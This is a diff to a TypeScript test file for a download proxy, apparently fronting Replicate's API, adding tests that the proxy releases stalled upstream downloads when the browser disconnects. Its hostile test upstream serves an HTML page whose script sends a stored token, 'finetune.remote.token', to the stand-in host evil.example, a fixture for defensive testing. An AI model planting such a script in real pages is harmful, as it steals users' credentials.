@@ -15,6 +15,27 @@ let elsewhere: Loopback; // a host nobody should reach through the proxy
 let elsewhereHits = 0;
 let tight: Loopback; // a proxy with small limits in front of the hostile upstream
 const logs: string[] = [];
+/** Downloads the hostile upstream holds open (by path): resolved when the proxy closes their connection. */
+const held = new Map<string, Promise<void>>();
+
+/** Resolves when `check` holds, looked at every 10 ms; rejects after `ms`. */
+async function until(check: () => boolean, ms: number): Promise<void> {
+  for (const end = Date.now() + ms; !check(); await new Promise((r) => setTimeout(r, 10))) {
+    if (Date.now() > end) throw new Error(`not within ${ms} ms`);
+  }
+}
+
+/** A browser that asks `path` through the proxy at `base` and goes away: after the first bytes of the answer, or once `gone` holds. */
+function leaveEarly(base: string, path: string, gone?: () => boolean): Promise<void> {
+  const { hostname, port } = new URL(base);
+  return new Promise((resolve, reject) => {
+    const req = request({ hostname, port, path, headers: auth }, (res) => res.once('data', () => req.destroy()));
+    req.on('error', () => {}); // the request is destroyed on purpose
+    req.on('close', () => resolve());
+    if (gone) until(gone, 5000).then(() => req.destroy(), reject);
+    req.end();
+  });
+}
 
 /** The status of a request sent with its path exactly as written. */
 function rawStatus(base: string, method: string, path: string): Promise<number> {
@@ -41,6 +62,12 @@ beforeAll(async () => {
     if (req.url === '/v1/trainings/redirect') return void res.writeHead(302, { location: `${elsewhere.url}/v1/trainings/redirect` }).end();
     if (req.url === '/delivery/redirect') return void res.writeHead(302, { location: `${elsewhere.url}/x.zip` }).end();
     if (req.url === '/v1/trainings/slow') return; // never answers
+    if (req.url === '/delivery/endless' || req.url === '/delivery/silent') {
+      // A download that goes on (the first KiB, then nothing) or never answers, until the proxy lets go of it.
+      held.set(req.url, new Promise((resolve) => res.on('close', () => resolve())));
+      if (req.url === '/delivery/endless') res.writeHead(200, { 'content-type': 'application/zip' }).write(new Uint8Array(1024));
+      return;
+    }
     // Anyone can make a file on Replicate's delivery hosts (a model's output): this one is a web page with a script.
     if (req.url === '/delivery/page.html') return void res.writeHead(200, { 'content-type': 'text/html' }).end('<script>fetch("//evil.example/?" + localStorage.getItem("finetune.remote.token"))</script>');
     res.writeHead(404).end();
@@ -208,6 +235,18 @@ describe('refusals', () => {
 
   it('gives up on an upstream that does not answer in time (504)', async () => {
     expect((await refused(`${tight.url}/replicate/v1/trainings/slow`, { headers: auth })).status).toBe(504);
+  });
+
+  it('lets go of the upstream download as soon as the browser goes away, long before the deadline', async () => {
+    // tight's downloads may take 10 min: a download the browser left held Replicate's connection that long.
+    const through = (path: string) => `/replicate/download?url=${encodeURIComponent(`${hostile.url}${path}`)}`;
+    const closedSoon = (path: string) => Promise.race([held.get(path)!.then(() => 'closed'), new Promise((r) => setTimeout(() => r('still open after 2 s'), 2000))]);
+    // Mid-body: the browser read the first bytes and closed the connection.
+    await leaveEarly(tight.url, through('/delivery/endless'));
+    expect(await closedSoon('/delivery/endless')).toBe('closed');
+    // Before any answer: the browser left while the proxy waited for the upstream's headers.
+    await leaveEarly(tight.url, through('/delivery/silent'), () => held.has('/delivery/silent'));
+    expect(await closedSoon('/delivery/silent')).toBe('closed');
   });
 
   it('refuses pages from other origins unless allowed, and answers allowed ones with CORS', async () => {
